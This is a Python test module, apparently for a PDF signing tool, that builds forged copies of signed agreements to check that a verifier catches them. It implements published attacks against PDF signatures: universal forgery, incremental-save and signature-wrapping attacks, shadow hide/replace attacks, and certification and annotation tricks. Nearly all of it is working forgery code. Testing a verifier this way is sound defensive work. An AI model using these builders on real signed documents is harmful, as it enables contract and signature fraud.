"""Forgeries of freshly signed agreements, built in memory: the published PDF signature attacks, one per variant.

Sources (the attack classes and their variants; the code here is ours):
* Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk: "1 Trillion Dollar Refund – How To Spoof PDF Signatures",
  CCS 2019: universal signature forgery (USF), incremental saving attack (ISA), signature wrapping (SWA).
* Mainka, Mladenov, Rohlmann: "Shadow Attacks: Hiding and Replacing Content in Signed PDFs", NDSS 2021: hide,
  replace, hide-and-replace and their variants.
* Mainka, Mladenov, Rohlmann, Schwenk: "Breaking the Specification: PDF Certification", IEEE S&P 2021: evil
  annotation attack (EAA) and sneaky signature attack (SSA) on certified documents.
Plus the cases of issue 13 (rogue CA, wrong person, broken xref, missing /Prev, damaged extra field).

Nothing here is written to the repository; every forgery is made from documents the tests sign themselves.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.reader import PdfFileReader

from samverka.export.signing._writer import incremental_writer


@dataclass
class Corpus:
    """The genuine documents and keys the forgeries start from."""

    prepared: bytes
    signed1: bytes  # sig_kommun signed (certifying), by Anna Åkesson (test CA, RSA)
    signed2: bytes  # and sig_polis, by محمد علي (test CA, EC)
    anna: tuple[Path, str]  # PKCS#12 + passphrase
    polis: tuple[Path, str]
    eve: tuple[Path, str]  # another person, same CA
    rogue_anna: tuple[Path, str]  # "Anna Åkesson" issued by a rogue CA with the real CA's name
    ca_pem: bytes
    shadows: dict[str, bytes] = field(default_factory=dict)


@dataclass(frozen=True)
class Attack:
    ident: str
    source: str  # which paper / class
    build: Callable[[Corpus], bytes]
    reasons: frozenset[str]  # verify must give at least one of these codes
    trust: bool = False  # verify with --trust (the test CA)
    pdfsig_flags: bool = False  # poppler's pdfsig reports it (invalid, or "Not total document signed")
    refused_at_signing: str = ""  # the shadow document that `samverka sign` must refuse, if any


# --- writing updates ------------------------------------------------------------------------------------------------
def update(pdf: bytes, edit: Callable[[Any], None]) -> bytes:
    """A well-formed incremental update made with pyHanko (metadata untouched)."""
    writer = incremental_writer(pdf)
    edit(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def raw_sign(pdf: bytes, field_name: str, p12: tuple[Path, str], *, certify: bool = False,
             new_box: tuple[int, int, int, int] | None = None, page: int = 1) -> bytes:
    """Sign with pyHanko directly: a victim using another program, or a forger. No Samverka checks."""
    from pyhanko.sign import fields, signers

    writer = incremental_writer(pdf)
    if new_box is not None:
        fields.append_signature_field(writer, fields.SigFieldSpec(field_name, on_page=page, box=new_box))
    signer = signers.SimpleSigner.load_pkcs12(str(p12[0]), passphrase=p12[1].encode())
    meta = signers.PdfSignatureMetadata(
        field_name=field_name, md_algorithm="sha256", subfilter=fields.SigSeedSubFilter.PADES, certify=certify,
        docmdp_permissions=fields.MDPPerm.FILL_FORMS,
    )
    return bytes(signers.PdfSigner(meta, signer=signer).sign_pdf(writer, existing_fields_only=new_box is None)
                 .getvalue())


def _name(text: str) -> Any:
    return generic.NameObject(text)


def _stream(data: bytes, **entries: Any) -> Any:
    return generic.StreamObject({_name(f"/{key}"): value for key, value in entries.items()}, stream_data=data)


def _form(data: bytes, box: tuple[float, float, float, float], resources: Any = None) -> Any:
    return _stream(data, Type=_name("/XObject"), Subtype=_name("/Form"),
                   BBox=generic.ArrayObject(generic.FloatObject(v) for v in box),
                   Resources=resources if resources is not None else generic.DictionaryObject())


def _fonts_of(resources: Any) -> Any:
    """A copy of a resource dictionary's fonts (dereferenced: reportlab makes /Font an indirect object)."""
    fonts = generic.DictionaryObject()
    if "/Font" in resources:
        fonts.update(resources["/Font"])
    return fonts


def _page(writer: Any, index: int) -> tuple[Any, Any]:
    ref, _ = writer.find_page_for_modification(index)
    return ref, ref.get_object()


def _field(writer: Any, name: str) -> Any:
    for ref in writer.root["/AcroForm"].raw_get("/Fields"):
        if ref.get_object().get("/T") == name:
            return ref
    raise KeyError(name)


def _sig_byte_range(pdf: bytes, name: str) -> tuple[int, int, int, int, Any]:
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    for sig in reader.embedded_regular_signatures:
        if sig.field_name == name:
            start, a, b, c = (int(v) for v in sig.byte_range)
            return start, a, b, c, sig
    raise KeyError(name)


def _font_resources() -> Any:
    font = generic.DictionaryObject({
        _name("/Type"): _name("/Font"), _name("/Subtype"): _name("/Type1"), _name("/BaseFont"): _name("/Helvetica"),
    })
    return generic.DictionaryObject({_name("/Font"): generic.DictionaryObject({_name("/Hv"): font})})


# --- CCS 2019: universal signature forgery --------------------------------------------------------------------------
def _edit_sig_dict(pdf: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    """Rewrite the signature dictionary in place, keeping every offset (spaces pad to the old length)."""
    _, a, b, _, _ = _sig_byte_range(pdf, name)
    start = pdf.rfind(b"obj", 0, a) + 3
    end = pdf.index(b"endobj", b)
    old = pdf[start:end]
    new = change(old)
    assert len(new) <= len(old), "the forged dictionary must fit"
    return pdf[:start] + new + b" " * (len(old) - len(new)) + pdf[end:]


def _hex_span(block: bytes) -> tuple[int, int]:
    found = re.search(rb"/Contents\s*<[0-9A-Fa-f]*>", block)
    assert found is not None
    return found.start(), found.end()


def usf_contents(kind: str) -> Callable[[Corpus], bytes]:
    def build(corpus: Corpus) -> bytes:
        def change(block: bytes) -> bytes:
            start, end = _hex_span(block)
            replacement = {
                "missing": b"", "null": b"/Contents null", "empty": b"/Contents <>",
                "zeros": b"/Contents <" + b"0" * (end - start - 12) + b">",
            }[kind]
            return block[:start] + replacement + b" " * (end - start - len(replacement)) + block[end:]
        return _edit_sig_dict(corpus.signed1, "sig_kommun", change)
    return build


def usf_byterange(kind: str) -> Callable[[Corpus], bytes]:
    def build(corpus: Corpus) -> bytes:
        def change(block: bytes) -> bytes:
            found = re.search(rb"/ByteRange\s*\[[^\]]*\]", block)
            assert found is not None
            replacement = {
                "missing": b"", "null": b"/ByteRange null", "empty": b"/ByteRange []",
                "zeros": b"/ByteRange [0 0 0 0]", "negative": b"/ByteRange [0 -1 -1 0]",
                "overlap": b"/ByteRange [0 2000 1000 5000]",
            }[kind]
            width = found.end() - found.start()
            return block[: found.start()] + replacement + b" " * (width - len(replacement)) + block[found.end():]
        return _edit_sig_dict(corpus.signed1, "sig_kommun", change)
    return build


def usf_no_filter(corpus: Corpus) -> bytes:
    return _edit_sig_dict(corpus.signed1, "sig_kommun", lambda block: block.replace(b"/Filter", b"/Xilter", 1))


def usf_replaced_dict(corpus: Corpus) -> bytes:
    """A later update points the field at a new signature dictionary without cryptography (and changes a page)."""
    def edit(writer: Any) -> None:
        field_ref = _field(writer, "sig_kommun")
        fake = generic.DictionaryObject({
            _name("/Type"): _name("/Sig"), _name("/Filter"): _name("/Adobe.PPKLite"),
            _name("/SubFilter"): _name("/ETSI.CAdES.detached"), _name("/Contents"): generic.ByteStringObject(b""),
            _name("/ByteRange"): generic.NullObject(),
        })
        field_obj = field_ref.get_object()
        field_obj["/V"] = writer.add_object(fake)
        writer.update_container(field_obj)
        _replace_page_text(writer)
    return update(corpus.signed2, edit)


# --- CCS 2019: incremental saving -----------------------------------------------------------------------------------
def _replace_page_text(writer: Any, text: bytes = b"Giltighetstid: 2026-2040") -> None:
    ref, page = _page(writer, 0)
    page["/Contents"] = writer.add_object(_stream(b"BT /Hv 12 Tf 72 700 Td (" + text + b") Tj ET"))
    page["/Resources"] = _font_resources()
    writer.update_container(page)


def isa_update(corpus: Corpus) -> bytes:
    return update(corpus.signed2, _replace_page_text)


def _content_object(number: int, text: bytes) -> bytes:
    content = b"BT /F1 12 Tf 72 700 Td (" + text + b") Tj ET"
    return b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (number, len(content), content)


def isa_without_xref(corpus: Corpus) -> bytes:
    """New objects after the last %%EOF, with no cross-reference section or trailer."""
    reader = PdfFileReader(io.BytesIO(corpus.signed2), strict=False)
    page_ref = reader.root["/Pages"].raw_get("/Kids").raw_get(0)
    size = int(reader.trailer_view["/Size"])
    page = (b"%d 0 obj\n<< /Type /Page /Parent 11 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>\nendobj\n"
            % (page_ref.idnum, size))
    return corpus.signed2 + _content_object(size, b"Giltig 2026-2040") + page


def isa_without_prev(corpus: Corpus) -> bytes:
    """A proper update whose trailer forgets /Prev (pyHanko once answered with an AssertionError traceback)."""
    forged = isa_update(corpus)
    tail_start = forged.rindex(b"trailer")
    tail = re.sub(rb"/Prev \d+", lambda m: b" " * len(m.group(0)), forged[tail_start:])
    return forged[:tail_start] + tail


def isa_extended_byterange(corpus: Corpus) -> bytes:
    """An update that redefines the last signature dictionary so its /ByteRange reaches the new end of file."""
    forged = isa_update(corpus)
    _, a, b, c, sig = _sig_byte_range(corpus.signed2, "sig_polis")
    number = sig.sig_object_ref.idnum if hasattr(sig, "sig_object_ref") else sig.sig_field.raw_get("/V").idnum

    def edit(writer: Any) -> None:
        ref = generic.Reference(number, 0, writer)
        obj = writer.get_object(ref)
        obj["/ByteRange"] = generic.ArrayObject(generic.NumberObject(v) for v in (0, a, b, c + 999_999))
        writer.mark_update(ref)
    return update(forged, edit)


# --- CCS 2019: signature wrapping -----------------------------------------------------------------------------------
def _xref_table(entries: dict[int, int]) -> bytes:
    lines = [b"xref\n0 1\n0000000000 65535 f \n"]
    for number in sorted(entries):
        lines.append(b"%d 1\n%010d 00000 n \n" % (number, entries[number]))
    return b"".join(lines)


def _last_revision_objects(pdf: bytes) -> tuple[int, dict[int, int], Any]:
    """(xref offset, object → offset, trailer) of the last revision."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    last = reader.xrefs.total_revisions - 1
    offsets = {}
    for ref in reader.xrefs.explicit_refs_in_revision(last):
        marker = reader.xrefs.get_historical_ref(ref, last)
        offsets[ref.idnum] = int(marker)
    return reader.xrefs.get_startxref_for_revision(last), offsets, reader.trailer_view


def _trailer_bytes(trailer: Any, prev: int) -> bytes:
    size, root = int(trailer["/Size"]) + 1, trailer.raw_get("/Root")
    return b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (size, root.idnum, prev)


def _malicious_page(number: int, size: int) -> bytes:
    content = b"BT /F1 12 Tf 72 700 Td (Giltighetstid: 2026-2040) Tj ET"
    return (b"%d 0 obj\n<< /Type /Page /Parent 11 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>\nendobj\n"
            b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (number, size, size, len(content),
                                                                             content))


def _wrap(pdf: bytes, copy_dict: bool) -> bytes:
    """Move the signed tail to the end of the file; put a new xref where the old one was, and new objects after it.

    The file then ends with the original signed tail, whose `startxref` points at the forger's xref. Relocated
    tail: the original dictionary continues with a new /ByteRange pointing at the moved tail (CCS 2019). Copied
    dictionary: the xref points the signature to a copy with the same CMS, written as a literal string padded so
    that a reader computing coverage from lengths sees the whole file covered (issue 13, case 1).
    """
    _, a, b, length2, sig = _sig_byte_range(pdf, "sig_kommun")
    xref_at, offsets, trailer = _last_revision_objects(pdf)
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    prev = reader.xrefs.get_startxref_for_revision(reader.xrefs.total_revisions - 2)
    sig_number = sig.sig_field.raw_get("/V").idnum
    page_number = reader.root["/Pages"].raw_get("/Kids").raw_get(0).idnum
    size = int(trailer["/Size"])
    cms = sig.pkcs7_content.rstrip(b"\x00")
    part1, part2 = pdf[:a], pdf[b:]
    tail = pdf[b : pdf.index(b"endobj", b)]  # the rest of the signature dictionary after /Contents
    head = pdf[offsets[sig_number] : a]  # "N 0 obj << ... /Contents "
    def layout(c: int, contents_length: int) -> tuple[bytes, int]:
        """The bytes between a and the moved tail for a tail at c, and how far they reach."""
        new_range = b"/ByteRange [0 %d %d %d]" % (a, c, length2)
        if copy_dict:
            before_xref = pdf[a:b]
            literal = cms + b"\x00" * (contents_length - len(cms))
            escaped = literal.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
            dictionary = head.replace(b"/Contents", b"", 1) + b"/Contents (" + escaped + b")" + re.sub(
                rb"/ByteRange\s*\[[^\]]*\]", new_range, tail) + b"endobj\n"
        else:
            before_xref = pdf[a:b] + re.sub(rb"/ByteRange\s*\[[^\]]*\]", lambda m: new_range.ljust(len(m.group(0))),
                                            tail) + b"endobj\n"
            dictionary = b""
        assert a + len(before_xref) <= xref_at, "the continued dictionary must fit before the old xref position"
        entries = {number: (off if off < a else off - b + c) for number, off in offsets.items()}
        entries.update({page_number: 0, size: 0})
        if copy_dict:
            entries[sig_number] = 0
        xref_length = len(_xref_table(entries) + _trailer_bytes(trailer, prev))  # offsets have fixed width
        if copy_dict:
            entries[sig_number] = xref_at + xref_length
        page = _malicious_page(page_number, size)
        page_at = xref_at + xref_length + len(dictionary)
        entries[page_number] = page_at
        entries[size] = page_at + page.index(b"%d 0 obj" % size)
        filler = before_xref + b" " * (xref_at - a - len(before_xref)) + _xref_table(entries) + \
            _trailer_bytes(trailer, prev) + dictionary + page
        return filler, a + len(filler)

    contents_length = len(cms)
    c = xref_at + 8192
    for _ in range(50):
        filler, needed = layout(c, contents_length)
        if copy_dict:
            # a reader that trusts lengths sees the whole file covered when gap = 2 * len(/Contents) + 2
            if needed <= c == a + 2 * contents_length + 2:
                break
            contents_length = max(contents_length + 1, (max(needed, c) - a) // 2)
            c = a + 2 * contents_length + 2
        elif needed <= c:
            break
        else:
            c = needed
    else:
        raise AssertionError("the wrapped layout did not settle")
    filler += b" " * (c - a - len(filler))
    assert len(part1 + filler) == c
    return part1 + filler + part2


def swa_relocated(corpus: Corpus) -> bytes:
    return _wrap(corpus.signed1, copy_dict=False)


def swa_copied_dict(corpus: Corpus) -> bytes:
    return _wrap(corpus.signed1, copy_dict=True)


def swa_then_signed(corpus: Corpus) -> bytes:
    """The wrapped document, then signed by the second signatory as if nothing happened (issue 13, case 1)."""
    return raw_sign(swa_copied_dict(corpus), "sig_polis", corpus.polis)


# --- NDSS 2021: shadow attacks ---------------------------------------------------------------------------------------
OVERLAY_TEXT = b"Giltighetstid: 2026-2029"
HIDDEN_TEXT = b"Giltighetstid: 2026-2040"


def _with_overlay(writer: Any) -> Any:
    """The shadow document: page 1 draws hidden text, then an opaque overlay XObject with the text shown."""
    ref, page = _page(writer, 0)
    overlay = writer.add_object(_form(
        b"1 1 1 rg 60 690 400 30 re f 0 0 0 rg BT /Hv 12 Tf 72 700 Td (" + OVERLAY_TEXT + b") Tj ET",
        (0, 0, 595, 842), _font_resources()))
    hidden = writer.add_object(_stream(b"BT /Hv 12 Tf 72 700 Td (" + HIDDEN_TEXT + b") Tj ET"))
    contents = generic.ArrayObject([page.raw_get("/Contents"), hidden, writer.add_object(_stream(b"q /Ov Do Q"))])
    page["/Contents"] = contents
    resources = generic.DictionaryObject(page["/Resources"])
    resources["/XObject"] = generic.DictionaryObject({_name("/Ov"): overlay})
    fonts = _fonts_of(resources)
    fonts["/Hv"] = _font_resources()["/Font"]["/Hv"]
    resources["/Font"] = fonts
    page["/Resources"] = resources
    writer.update_container(page)
    return overlay


def _text_field(writer: Any, name: str, box: tuple[int, int, int, int], value: bytes = b"",
                appearance: bytes = b"") -> Any:
    """A text field (widget on page 1) as a shadow document would carry it."""
    ref, page = _page(writer, 0)
    widget = generic.DictionaryObject({
        _name("/FT"): _name("/Tx"), _name("/T"): generic.TextStringObject(name), _name("/Type"): _name("/Annot"),
        _name("/Subtype"): _name("/Widget"), _name("/F"): generic.NumberObject(4),
        _name("/Rect"): generic.ArrayObject(generic.NumberObject(v) for v in box), _name("/P"): ref,
        _name("/V"): generic.TextStringObject(value.decode()),
        _name("/AP"): generic.DictionaryObject({_name("/N"): writer.add_object(_form(
            appearance, (0, 0, box[2] - box[0], box[3] - box[1]), _font_resources()))}),
    })
    widget_ref = writer.add_object(widget)
    annots = generic.ArrayObject(page.get("/Annots", []))
    annots.append(widget_ref)
    page["/Annots"] = annots
    writer.update_container(page)
    form = writer.root["/AcroForm"]
    fields = generic.ArrayObject(form.raw_get("/Fields"))
    fields.append(widget_ref)
    form["/Fields"] = fields
    writer.update_container(form)
    return widget_ref


def _cover(text: bytes) -> bytes:
    return b"1 1 1 rg 0 0 400 30 re f 0 0 0 rg BT /Hv 12 Tf 2 10 Td (" + text + b") Tj ET"


def shadow_document(kind: str) -> Callable[[Corpus], bytes]:
    """The prepared agreement after the attacker's pre-signing changes (what the victim is asked to sign)."""
    def build(corpus: Corpus) -> bytes:
        if kind in corpus.shadows:
            return corpus.shadows[kind]

        def edit(writer: Any) -> None:
            if kind in ("overlay", "overlay-xref"):
                _with_overlay(writer)
            elif kind == "form-over-text":
                _text_field(writer, "dold", (60, 690, 460, 720), b"2026-2029", _cover(OVERLAY_TEXT))
            elif kind == "form-over-form":
                _text_field(writer, "under", (60, 690, 460, 720), b"2026-2040", _cover(HIDDEN_TEXT))
                _text_field(writer, "over", (60, 690, 460, 720), b"2026-2029", _cover(OVERLAY_TEXT))
            elif kind == "prefilled":
                _text_field(writer, "giltighet", (60, 690, 460, 720), b"2026-2029", _cover(OVERLAY_TEXT))
            elif kind == "empty-invisible":
                _text_field(writer, "giltighet", (60, 690, 460, 720))
            elif kind == "dangling":
                # Page 1 also draws object N, which does not exist yet: nothing shows when signed.
                _, page = _page(writer, 0)
                number = int(writer.prev.trailer_view["/Size"]) + 50
                page["/Contents"] = generic.ArrayObject([page.raw_get("/Contents"),
                                                         generic.IndirectObject(number, 0, writer)])
                writer.update_container(page)
            elif kind == "unused-content":
                writer.add_object(_stream(b"BT /F1 12 Tf 72 700 Td (" + HIDDEN_TEXT + b") Tj ET"))
            elif kind == "font":
                _, page = _page(writer, 0)
                resources = generic.DictionaryObject(page["/Resources"])
                fonts = _fonts_of(resources)
                fonts["/Sh"] = writer.add_object(_font_resources()["/Font"]["/Hv"])
                resources["/Font"] = fonts
                page["/Resources"] = resources
                writer.update_container(page)
        shadow = update(corpus.prepared, edit)
        if kind == "free-shadow":
            shadow = _with_dead_body(corpus.prepared)
        corpus.shadows[kind] = shadow
        return shadow
    return build


def _with_dead_body(pdf: bytes) -> bytes:
    """An update holding a content stream body that its own xref marks as free (switched on after signing)."""
    xref_at, _, trailer = _last_revision_objects(pdf)
    number = int(trailer["/Size"])
    body = _content_object(number, b"Giltig 2026-2040")
    start = len(pdf)
    xref = b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 f \n" % (number, start)
    new_trailer = b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (number + 1, trailer.raw_get("/Root").idnum,
                                                                       xref_at)
    xref_offset = start + len(body)
    return pdf + body + xref + new_trailer + b"startxref\n%d\n%%%%EOF\n" % xref_offset


def victim_signs(shadow: Callable[[Corpus], bytes]) -> Callable[[Corpus], bytes]:
    """Both signatories sign the shadow document with a program that does not check (pyHanko directly)."""
    def build(corpus: Corpus) -> bytes:
        once = raw_sign(shadow(corpus), "sig_kommun", corpus.anna, certify=True)
        return raw_sign(once, "sig_polis", corpus.polis)
    return build


def _find_object_with(pdf: bytes, needle: bytes) -> int:
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    for number in range(1, int(reader.trailer_view["/Size"])):
        try:
            obj = reader.get_object(generic.Reference(number, 0))
        except Exception:  # noqa: BLE001,S112 - free or missing numbers
            continue
        if isinstance(obj, generic.StreamObject) and needle in obj.data:
            return number
    raise KeyError(needle)


def hide_override(same_number: bool) -> Callable[[Corpus], bytes]:
    """Hide, variant 1: after signing, the overlay XObject's number is given an empty object."""
    def build(corpus: Corpus) -> bytes:
        signed = victim_signs(shadow_document("overlay"))(corpus)
        overlay = _find_object_with(signed, OVERLAY_TEXT)
        if same_number:
            def edit(writer: Any) -> None:
                writer.mark_update(generic.Reference(overlay, 0, writer))
                writer.objects[(0, overlay)] = _form(b"", (0, 0, 1, 1))
            return update(signed, edit)
        # Vector 1: the xref entry for the overlay points to an object that carries a different number.
        xref_at, _, trailer = _last_revision_objects(signed)
        start = len(signed)
        other = int(trailer["/Size"])
        body = (b"%d 0 obj\n<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Length 0 >>\nstream\n\nendstream\n"
                b"endobj\n" % other)
        xref = b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (overlay, start)
        tail = b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
            int(trailer["/Size"]) + 1, trailer.raw_get("/Root").idnum, xref_at, start + len(body))
        return signed + body + xref + tail
    return build


def _set_field(signed: bytes, name: str, value: bytes, appearance: bytes, hide: bool = False) -> bytes:
    def edit(writer: Any) -> None:
        ref = _field(writer, name)
        widget = ref.get_object()
        widget["/V"] = generic.TextStringObject(value.decode())
        rect = [float(v) for v in widget["/Rect"]]
        widget["/AP"] = generic.DictionaryObject({_name("/N"): writer.add_object(_form(
            appearance, (0, 0, rect[2] - rect[0], rect[3] - rect[1]), _font_resources()))})
        if hide:
            widget["/F"] = generic.NumberObject(2)
        writer.update_container(widget)
    return update(signed, edit)


def hide_form(kind: str) -> Callable[[Corpus], bytes]:
    """Hide, variant 2: the covering form field is emptied (form over text) or hidden (form over form)."""
    def build(corpus: Corpus) -> bytes:
        signed = victim_signs(shadow_document(kind))(corpus)
        if kind == "form-over-text":
            return _set_field(signed, "dold", b"", b"")
        return _set_field(signed, "over", b"", b"", hide=True)
    return build


def replace_overlay(corpus: Corpus) -> bytes:
    """Replace, variant 1: a pre-filled field gets another value after signing."""
    signed = victim_signs(shadow_document("prefilled"))(corpus)
    return _set_field(signed, "giltighet", b"2026-2040", _cover(HIDDEN_TEXT))


def replace_empty_invisible(corpus: Corpus) -> bytes:
    """Issue 13, case 2: an empty, invisible text field over Giltighetstid is filled after both signatures."""
    signed = victim_signs(shadow_document("empty-invisible"))(corpus)
    return _set_field(signed, "giltighet", b"2026-2040", _cover(HIDDEN_TEXT))


def replace_font(corpus: Corpus) -> bytes:
    """Replace, variant 2 (overwrite): a font object the page uses is redefined after signing."""
    signed = victim_signs(shadow_document("font"))(corpus)
    reader = PdfFileReader(io.BytesIO(signed), strict=False)
    page = reader.root["/Pages"]["/Kids"][0]
    font_ref = page["/Resources"]["/Font"].raw_get("/Sh")

    def edit(writer: Any) -> None:
        writer.mark_update(generic.Reference(font_ref.idnum, 0, writer))
        writer.objects[(0, font_ref.idnum)] = generic.DictionaryObject({
            _name("/Type"): _name("/Font"), _name("/Subtype"): _name("/Type1"),
            _name("/BaseFont"): _name("/ZapfDingbats"),
        })
    return update(signed, edit)


def hide_and_replace_references(corpus: Corpus) -> bytes:
    """Hide-and-replace, variant 1: the page is pointed at content that was in the file, unused, when signed."""
    signed = victim_signs(shadow_document("unused-content"))(corpus)
    hidden = _find_object_with(signed, HIDDEN_TEXT)

    def edit(writer: Any) -> None:
        _, page = _page(writer, 0)
        page["/Contents"] = generic.IndirectObject(hidden, 0, writer)
        writer.update_container(page)
    return update(signed, edit)


def hide_and_replace_dangling(corpus: Corpus) -> bytes:
    """Hide-and-replace through a reference to an object that did not exist when signed: defining it later
    changes the page without redefining any signed object."""
    shadow = shadow_document("dangling")(corpus)
    signed = victim_signs(lambda _corpus: shadow)(corpus)
    reader = PdfFileReader(io.BytesIO(shadow), strict=False)
    page = reader.root["/Pages"].raw_get("/Kids").raw_get(0).get_object()
    number = page.raw_get("/Contents").raw_get(1).idnum
    xref_at, _, trailer = _last_revision_objects(signed)
    start = len(signed)
    body = _content_object(number, HIDDEN_TEXT)
    xref = b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (number, start)
    tail = b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        number + 1, trailer.raw_get("/Root").idnum, xref_at, start + len(body))
    return signed + body + xref + tail


def hide_and_replace_xref_only(corpus: Corpus) -> bytes:
    """Hide-and-replace, variant 2: an update with only an xref that switches on a body marked free when signed."""
    signed = victim_signs(shadow_document("free-shadow"))(corpus)
    reader = PdfFileReader(io.BytesIO(signed), strict=False)
    page = reader.root["/Pages"]["/Kids"][0]
    contents_ref = page.get_object().raw_get("/Contents")
    shadow_at = signed.index(b"(Giltig 2026-2040)")
    shadow_at = signed.rindex(b" 0 obj", 0, shadow_at)
    shadow_at = signed.rindex(b"\n", 0, shadow_at) + 1
    xref_at, _, trailer = _last_revision_objects(signed)
    start = len(signed)
    xref = b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (contents_ref.idnum, shadow_at)
    tail = b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        int(trailer["/Size"]), trailer.raw_get("/Root").idnum, xref_at, start)
    return signed + xref + tail


def hide_xref_redirect(corpus: Corpus) -> bytes:
    """Hide via the xref alone: the overlay's entry is re-pointed at an existing, harmless object's body."""
    signed = victim_signs(shadow_document("overlay"))(corpus)
    overlay = _find_object_with(signed, OVERLAY_TEXT)
    reader = PdfFileReader(io.BytesIO(signed), strict=False)
    info = reader.trailer_view.raw_get("/Info")
    info_at = int(reader.xrefs[info.reference])
    xref_at, _, trailer = _last_revision_objects(signed)
    xref = b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (overlay, info_at)
    tail = b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        int(trailer["/Size"]), trailer.raw_get("/Root").idnum, xref_at, len(signed))
    return signed + xref + tail


# --- S&P 2021: certification attacks -------------------------------------------------------------------------------
def evil_annotation(subtype: str, on: str = "signed1") -> Callable[[Corpus], bytes]:
    """EAA: an annotation with its own appearance (a FreeText, a Stamp, a white Square …) over the text."""
    def build(corpus: Corpus) -> bytes:
        def edit(writer: Any) -> None:
            ref, page = _page(writer, 0)
            annot = generic.DictionaryObject({
                _name("/Type"): _name("/Annot"), _name("/Subtype"): _name(subtype),
                _name("/Rect"): generic.ArrayObject(generic.NumberObject(v) for v in (60, 690, 460, 720)),
                _name("/F"): generic.NumberObject(4), _name("/P"): ref,
                _name("/Contents"): generic.TextStringObject("2026-2040"),
                _name("/AP"): generic.DictionaryObject({_name("/N"): writer.add_object(_form(
                    _cover(HIDDEN_TEXT), (0, 0, 400, 30), _font_resources()))}),
            })
            if subtype == "/FreeText":
                annot["/DA"] = generic.TextStringObject("/Hv 12 Tf 0 g")
            annots = generic.ArrayObject(page.get("/Annots", []))
            annots.append(writer.add_object(annot))
            page["/Annots"] = annots
            writer.update_container(page)
        return update(getattr(corpus, on), edit)
    return build


def sneaky_signature(signed: bool) -> Callable[[Corpus], bytes]:
    """SSA: a new signature field whose appearance shows other text, unsigned or signed by the forger."""
    def build(corpus: Corpus) -> bytes:
        if signed:
            return raw_sign(corpus.signed1, "sig_ny", corpus.eve, new_box=(60, 690, 460, 720), page=0)

        def edit(writer: Any) -> None:
            from pyhanko.sign import fields
            fields.append_signature_field(writer, fields.SigFieldSpec("sig_ny", on_page=0, box=(60, 690, 460, 720)))
            ref = _field(writer, "sig_ny")
            widget = ref.get_object()
            widget["/AP"] = generic.DictionaryObject({_name("/N"): writer.add_object(_form(
                _cover(HIDDEN_TEXT), (0, 0, 400, 30), _font_resources()))})
            writer.update_container(widget)
        return update(corpus.signed1, edit)
    return build


def empty_field_appearance(corpus: Corpus) -> bytes:
    """SSA on an existing field: the unsigned sig_polis field gets an appearance without a signature."""
    def edit(writer: Any) -> None:
        widget = _field(writer, "sig_polis").get_object()
        widget["/AP"] = generic.DictionaryObject({_name("/N"): writer.add_object(_form(
            _cover(b"Godkand av polisen"), (0, 0, 220, 90), _font_resources()))})
        writer.update_container(widget)
    return update(corpus.signed1, edit)


# --- issue 13: other changes that must stay caught ------------------------------------------------------------------
def signed_appearance_changed(corpus: Corpus) -> bytes:
    def edit(writer: Any) -> None:
        widget = _field(writer, "sig_kommun").get_object()
        widget["/AP"] = generic.DictionaryObject({_name("/N"): writer.add_object(_form(
            _cover(b"Eve"), (0, 0, 220, 90), _font_resources()))})
        writer.update_container(widget)
    return update(corpus.signed2, edit)


def moved_widget(corpus: Corpus) -> bytes:
    def edit(writer: Any) -> None:
        widget = _field(writer, "sig_kommun").get_object()
        widget["/Rect"] = generic.ArrayObject(generic.NumberObject(v) for v in (300, 100, 520, 190))
        writer.update_container(widget)
    return update(corpus.signed2, edit)


def swapped_values(corpus: Corpus) -> bytes:
    def edit(writer: Any) -> None:
        first, second = _field(writer, "sig_kommun").get_object(), _field(writer, "sig_polis").get_object()
        first_v, second_v = first.raw_get("/V"), second.raw_get("/V")
        first["/V"], second["/V"] = second_v, first_v
        writer.update_container(first)
        writer.update_container(second)
    return update(corpus.signed2, edit)


def rogue_ca(corpus: Corpus) -> bytes:
    return raw_sign(corpus.prepared, "sig_kommun", corpus.rogue_anna, certify=True)


def wrong_person(corpus: Corpus) -> bytes:
    return raw_sign(corpus.prepared, "sig_kommun", corpus.eve, certify=True)


def broken_xref(corpus: Corpus) -> bytes:
    """One offset in the last cross-reference table points a few bytes off."""
    data = bytearray(corpus.signed2)
    xref_at = data.rindex(b"\nxref\n") + 1
    entry = re.compile(rb"(\d{10}) 00000 n").search(bytes(data), xref_at + 30)
    assert entry is not None
    bad = b"%010d" % (int(entry.group(1)) + 7)
    data[entry.start(1):entry.end(1)] = bad
    return bytes(data)


def damaged_extra_field(corpus: Corpus) -> bytes:
    """A third signature field whose signature dictionary has no /ByteRange (issue 13, case 5)."""
    def edit(writer: Any) -> None:
        from pyhanko.sign import fields
